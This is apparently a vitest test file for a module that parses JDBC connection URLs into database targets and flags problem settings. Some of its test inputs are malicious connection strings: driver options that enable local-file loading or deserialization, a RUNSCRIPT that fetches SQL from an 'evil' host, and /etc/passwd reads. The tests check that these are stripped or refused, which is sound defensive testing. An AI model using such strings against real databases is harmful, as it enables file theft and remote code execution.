import { describe, expect, it } from "vitest";
import { prefixOfProperties, serversIn, targetOfSetting, targetProblem } from "./target.ts";

const place = (url: string, more: Record<string, string> = {}) =>
  targetOfSetting({ "default.url": url, ...more }, "default");

describe("the url of a setting", () => {
  it.each([
    [
      "jdbc:postgresql://db.example:5433/sales",
      { product: "postgresql", host: "db.example", port: 5433, database: "sales" },
    ],
    ["jdbc:postgresql://db.example/", { port: 5432, database: "" }],
    ["jdbc:postgresql:sales", { host: "localhost", port: 5432, database: "sales" }],
    ["jdbc:mariadb://[::1]/a%20b", { product: "mysql", host: "::1", port: 3306, database: "a b" }],
    ["mysql://ada:s%40crt@h/x", { product: "mysql", user: "ada", password: "s@crt" }],
    ["jdbc:mysql://h/x?user=ada&password=s&useSSL=true", { user: "ada", password: "s", encryption: "encrypted" }],
    ["jdbc:mysql://h/x?sslMode=VERIFY_IDENTITY", { encryption: "verified" }],
    ["jdbc:postgresql://h/x?sslmode=verify-full&currentSchema=app", { encryption: "verified", schema: "app" }],
    ["jdbc:postgresql://h/x", { user: undefined, password: undefined, encryption: "none", timeoutSeconds: 0 }],
  ])("%s", (url, parts) => {
    expect(place(url)).toMatchObject(parts);
  });

  it.each([
    "jdbc:mysql://h/x?allowLoadLocalInfile=true&allowUrlInLocalInfile=true&autoDeserialize=true",
    "jdbc:mysql://h/x?%61llowLoadLocalInfile=true&ALLOWLOADLOCALINFILE=true&queryInterceptors=com.evil.X",
    "jdbc:mysql://h/x?allowLoadLocalInfile%3Dtrue;autoDeserialize=yes",
    "jdbc:postgresql://h/x?socketFactory=java.io.FileOutputStream&socketFactoryArg=/tmp/x&sslfactory=com.evil.X",
    "jdbc:postgresql://h/x?options=-c%20session_preload_libraries=evil&loggerFile=/tmp/x&loggerLevel=TRACE",
    "jdbc:mariadb://h/x?init=RUNSCRIPT%20FROM%20'http://evil/x.sql'&sessionVariables=sql_mode=''&serverRsaPublicKeyFile=/etc/passwd",
  ])("brings nothing that a driver would load, read or run: %s", (url) => {
    const clean = place(url.replace(/\?.*/, ""));
    expect({ ...Object(place(url)), url: "" }).toEqual({ ...Object(clean), url: "" });
  });

  it.each([
    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
    "jdbc:hive2://h/x",
    "jdbc:sqlite:/etc/passwd",
    "file:///etc/passwd",
    "jdbc:constructor://h/x",
    "jdbc:__proto__://h/x",
  ])("of another product is refused in words: %s", (url) => {
    expect(place(url)).toMatch(/no driver for|not understood/);
  });

  it("gives way to properties of their own", () => {
    const own = { "default.user": "grace", "default.password": "hopper", "default.timeout": "30" };
    expect(place("mysql://ada:x@h/x", own)).toMatchObject({ user: "grace", password: "hopper", timeoutSeconds: 30 });
  });
});

describe("a prefix", () => {
  it.each([
    [{}, "default"],
    [{ sales: "sales" }, "sales"],
    [{ db: "sales", timeout: "3" }, "sales"],
    [{ timeout: "3" }, "default"],
  ])("of %j is %s", (properties, prefix) => {
    expect(prefixOfProperties(properties)).toBe(prefix);
  });

  it("names the property that is missing", () => {
    expect(targetOfSetting({ "default.url": "jdbc:mysql://h/x" }, "sales")).toContain("no sales.url");
  });
});

describe("what a setting has to reach", () => {
  it("is the server of each of its databases, once", () => {
    expect(
      serversIn({
        "default.url": "jdbc:postgresql://db.example/sales",
        "other.url": "jdbc:postgresql://db.example:5432/stock",
        "shop.url": "jdbc:mariadb://10.1.2.3/shop",
        "six.url": "jdbc:mysql://[2001:db8::1]:3307/x",
        "short.url": "jdbc:postgresql:sales",
        "hive.url": "jdbc:hive2://nowhere:10000",
        "blank.url": "",
        "default.user": "ada",
      }),
    ).toEqual(["db.example:5432", "10.1.2.3:3306", "[2001:db8::1]:3307", "localhost:5432"]);
  });
});

describe("a problem of a setting", () => {
  it.each([
    [{}, "noAddress", /no default\.url/],
    [
      { "default.url": "jdbc:oracle:thin:@//h:1521/x", "default.driver": "oracle.jdbc.OracleDriver" },
      "noDriver",
      /^There is no driver for oracle \(oracle\.jdbc\.OracleDriver\) yet\./,
    ],
    [{ "default.url": "nonsense" }, "noAddress", /not understood/],
    [{ "default.url": "jdbc:mysql://h/%zz" }, undefined, undefined],
  ])("of %j is known before anything is opened", (setting, kind, text) => {
    const problem = targetProblem(setting as Record<string, string>, "default");
    expect(problem?.kind).toBe(kind);
    if (text) expect(problem?.text).toMatch(text);
  });
});
